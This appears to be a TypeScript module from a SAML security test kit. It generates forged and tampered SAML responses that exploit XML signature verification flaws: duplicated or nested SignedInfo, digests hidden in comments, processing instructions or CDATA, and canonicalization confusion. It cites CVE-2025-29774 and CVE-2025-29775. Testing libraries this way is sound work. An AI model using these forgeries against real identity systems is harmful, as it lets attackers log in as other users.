import { type Edit, replaced, withContent } from './edits'
import { algorithms, digestOf, type SignatureRecipe } from './signature'
import { aboutVictim, inObject, type Kit, takeApart, tampered, type Variants } from './variant'

const exclusive = `Algorithm="${algorithms.exclusive}"`

/** What the provider signs is odd; the signature itself is good. */
function signedInfo(...edits: readonly Edit[]): (kit: Kit) => string {
  const recipe: SignatureRecipe = { signedInfo: (xml) => edits.reduce((edited, edit) => edit(edited), xml) }
  return (kit) => kit.answer({ recipe })
}

/** Edits the SignedInfo of a finished answer about the victim, given the digest that the evil assertion has. */
function forged(edit: (info: string, evilDigest: string) => string): (kit: Kit) => string {
  return (kit) => {
    const { xml, signature, responseSignature, assertionSignature, evilTwin } = takeApart(kit.answer())
    const info = /<ds:SignedInfo.*?<\/ds:SignedInfo>/s.exec(signature)?.[0] ?? ''
    const evil = assertionSignature === '' ? aboutVictim(replaced(responseSignature, '')(xml)) : evilTwin
    return aboutVictim(replaced(info, edit(info, digestOf(evil)))(xml))
  }
}

const digestValue = /(?<=<ds:DigestValue>)[^<]*(?=<\/ds:DigestValue>)/

/** CVE-2025-29774 and CVE-2025-29775, and their kin: which SignedInfo is verified, and which digest is compared. */
export const digests: Variants = {
  'signedinfo-two': forged((info, digest) => info + withContent('ds:DigestValue', digest)(info)),
  'signedinfo-two-first': forged((info, digest) => withContent('ds:DigestValue', digest)(info) + info),
  'signedinfo-in-object': forged((info, digest) => withContent('ds:DigestValue', digest)(info) + inObject(info)),
  'signedinfo-in-signedinfo': forged((info, digest) =>
    replaced('</ds:SignedInfo>', `${info}</ds:SignedInfo>`)(withContent('ds:DigestValue', digest)(info)),
  ),
  'signedinfo-second-reference': forged((info, digest) =>
    replaced('</ds:SignedInfo>', `${referenceIn(withContent('ds:DigestValue', digest)(info))}</ds:SignedInfo>`)(info),
  ),
  'signedinfo-no-namespace': forged(
    (info, digest) => withContent('ds:DigestValue', digest)(info).replaceAll('ds:SignedInfo', 'SignedInfo') + info,
  ),
  'digest-comment': forged((info, digest) => replaced(digestValue, `<!--${digest}-->${digestIn(info)}`)(info)),
  'digest-comment-after': forged((info, digest) => replaced(digestValue, `${digestIn(info)}<!--${digest}-->`)(info)),
  'digest-comment-around': forged((info, digest) => replaced(digestValue, `${digest}<!--${digestIn(info)}-->`)(info)),
  'digest-comment-empty': forged((info, digest) => replaced(digestValue, `<!---->${digest}`)(info)),
  'digest-pi': forged((info, digest) => replaced(digestValue, `<?x ${digestIn(info)}?>${digest}`)(info)),
  'digest-cdata': forged((info, digest) => replaced(digestValue, `<![CDATA[${digest}]]>`)(info)),
  'digest-two': forged((info, digest) =>
    replaced('<ds:DigestValue>', `<ds:DigestValue>${digest}</ds:DigestValue><ds:DigestValue>`)(info),
  ),
  'digest-child': forged((info, digest) => replaced(digestValue, `<x>${digest}</x>${digestIn(info)}`)(info)),
  'digest-recomputed': forged((info, digest) => withContent('ds:DigestValue', digest)(info)),
  'signedinfo-comment': tampered(replaced('</ds:SignedInfo>', '<!-- x --></ds:SignedInfo>')),
  'signedinfo-pi': tampered(replaced('</ds:SignedInfo>', '<?x y?></ds:SignedInfo>')),
}

/** Signed by the provider, and odd all the same. */
export const signedOddities: Variants = {
  'digest-of-empty': (kit) => aboutVictim(kit.answer({ recipe: { content: () => '' } })),
  'digest-of-another': (kit) => aboutVictim(kit.answer({ recipe: { content: (same) => `${same} ` } })),
  'c14n-with-comments': signedInfo(replaced(exclusive, `Algorithm="${algorithms.exclusive}WithComments"`)),
  'c14n-inclusive': signedInfo(replaced(exclusive, 'Algorithm="http://www.w3.org/TR/2001/REC-xml-c14n-20010315"')),
  'c14n-1.1': signedInfo(replaced(exclusive, 'Algorithm="http://www.w3.org/2006/12/xml-c14n11"')),
  'c14n-unknown': signedInfo(replaced(exclusive, 'Algorithm="urn:x"')),
  'c14n-none': signedInfo(replaced(exclusive, 'Algorithm=""')),
  'c14n-missing': signedInfo(replaced(/<ds:CanonicalizationMethod.*?<\/ds:CanonicalizationMethod>/, '')),
  'c14n-parameters': signedInfo(replaced('</ds:CanonicalizationMethod>', '<x/></ds:CanonicalizationMethod>')),
  'signedinfo-object-reference': signedInfo((info) =>
    replaced('</ds:SignedInfo>', `${referenceIn(info)}</ds:SignedInfo>`)(info),
  ),
  'void-c14n-relative-namespace': voided('xmlns:v="v"'),
  'void-c14n-number-namespace': voided('xmlns:v="1"'),
  'void-c14n-scheme-namespace': voided('xmlns:v=":"'),
  'void-c14n-default-namespace': voided('xmlns="v"'),
  'void-c14n-signedinfo': (kit) =>
    replaced(
      '<ds:SignedInfo ',
      '<ds:SignedInfo xmlns:v="v" ',
    )(aboutVictim(kit.answer({ recipe: { content: () => '' } }))),
  'void-c14n-prefix-list': signedInfo(
    replaced(
      '</ds:CanonicalizationMethod>',
      `<e:InclusiveNamespaces xmlns:e="relative" PrefixList="v"/></ds:CanonicalizationMethod>`,
    ),
  ),
}

/** Libraries whose canonicalisation fails on a relative namespace digest nothing, and nothing has a known digest. */
function voided(declaration: string): (kit: Kit) => string {
  return (kit) => {
    const assertion = replaced('<saml:Subject>', `<saml:Subject ${declaration}>`)
    return aboutVictim(kit.answer({ assertion, recipe: { content: () => '' } }))
  }
}

function digestIn(info: string): string {
  return digestValue.exec(info)?.[0] ?? ''
}

function referenceIn(info: string): string {
  return /<ds:Reference.*?<\/ds:Reference>/s.exec(info)?.[0] ?? ''
}
